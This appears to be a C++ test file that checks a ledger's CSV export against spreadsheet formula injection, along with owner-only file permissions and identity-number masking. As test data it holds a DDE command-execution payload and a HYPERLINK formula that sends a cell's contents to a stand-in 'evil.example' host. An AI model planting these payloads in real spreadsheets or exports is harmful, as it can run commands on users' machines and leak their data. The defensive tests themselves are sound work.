// CSV injection (OWASP): cells that a spreadsheet would run as a formula are written as text,
// in the export; and files of personal data are written owner-only.
#include "ledger/export_csv.h"
#include "ledger/identity_document.h"
#include "ledger/records_csv.h"
#include "ledger_fixture.h"

#include <doctest/doctest.h>

#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <sstream>

using namespace drillbase::ledger;
using namespace drillbase::ledger::testing;

namespace {

constexpr const char* kDbFolder = "csv_injection";
constexpr const char* kOrg = "914403001922038216";

}  // namespace

TEST_CASE("CSV cells beginning with = + - @ tab or CR get a leading quote") {
    CHECK(neutraliseCsvCell("=HYPERLINK(\"http://x\",\"y\")") == "'=HYPERLINK(\"http://x\",\"y\")");
    CHECK(neutraliseCsvCell("+86 10 1234") == "'+86 10 1234");
    CHECK(neutraliseCsvCell("-2+3") == "'-2+3");
    CHECK(neutraliseCsvCell("@SUM(A1)") == "'@SUM(A1)");
    CHECK(neutraliseCsvCell("\t=1") == "'\t=1");
    CHECK(neutraliseCsvCell("\r=1") == "'\r=1");
    CHECK(neutraliseCsvCell("王伟") == "王伟");
    CHECK(neutraliseCsvCell("a=b") == "a=b");
    CHECK(neutraliseCsvCell("") == "");
    std::ostringstream row;
    writeCsvRow(row, {"=1+1", "ok", "@x,y"});
    CHECK(row.str() == "'=1+1,ok,\"'@x,y\"\r\n");
}

TEST_CASE("CSV export: a name =HYPERLINK(...) is exported as text, not a live formula") {
    SqliteDb db(freshDb(kDbFolder, "export"));
    const auto key = LookupKey::generate();
    auto ledger = openLedger(db, key);
    ledger.registerOrganisation(kOrg, "=cmd|' /C calc'!A0", "manufacturing", kAt);
    const std::string evil = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点击\")";
    const auto doc = *parseResidentId("370102198503121233", kToday).document;
    const auto p = ledger.registerPerson(evil, doc, kAt);
    ledger.assignRole(p, kOrg, Role::SafetyManager, kToday, kAt);
    std::ostringstream out;
    REQUIRE(exportCsv(db, out) == 1);
    const auto csv = parseCsv(out.str());
    REQUIRE_FALSE(csv.error);
    REQUIRE(csv.records.size() == 2);
    const auto& f = csv.records[1].fields;
    CHECK(f[1] == "'" + evil);
    CHECK(f[7] == "'=cmd|' /C calc'!A0");
    for (const auto& cell : f) CHECK_FALSE(csvCellNeedsNeutralising(cell));
}

TEST_CASE("files of personal data are created 0600, and an existing 0644 file is narrowed") {
    const auto dir = scratchDb(kDbFolder, "files").parent_path();
    const auto file = dir / "export.csv";
    std::filesystem::remove(file);
    {
        auto out = openPersonalDataFile(file);
        REQUIRE(out);
        out << "x";
    }
    struct stat st {};
    REQUIRE(::stat(file.c_str(), &st) == 0);
    CHECK((st.st_mode & 0777) == 0600);
    ::chmod(file.c_str(), 0644);
    {
        auto out = openPersonalDataFile(file);
        REQUIRE(out);
        out << "y";
    }
    REQUIRE(::stat(file.c_str(), &st) == 0);
    CHECK((st.st_mode & 0777) == 0600);
    std::ifstream in(file);
    std::string text;
    std::getline(in, text);
    CHECK(text == "y");  // truncated
    CHECK_FALSE(openPersonalDataFile(dir / "no-such-folder" / "x.csv"));
}

TEST_CASE("typed identity numbers are masked like the export, valid or not") {
    CHECK(maskDocumentText("370602199902285325") == "370602********5325");
    CHECK(maskDocumentText("37060219990228532") == "370602********532");  // one short
    CHECK(maskDocumentText("370602990228532") == "370602********2");      // legacy 15
    CHECK(maskDocumentText("E12345678") == "******678");
    CHECK(maskDocumentText("123") == "***");
    CHECK(maskDocumentText("") == "");
    CHECK(maskDocumentText("身份证号码三七零六零二一九九九零二二八五三二五") ==
          "身份证号码三********九零二二八五三二五");
}
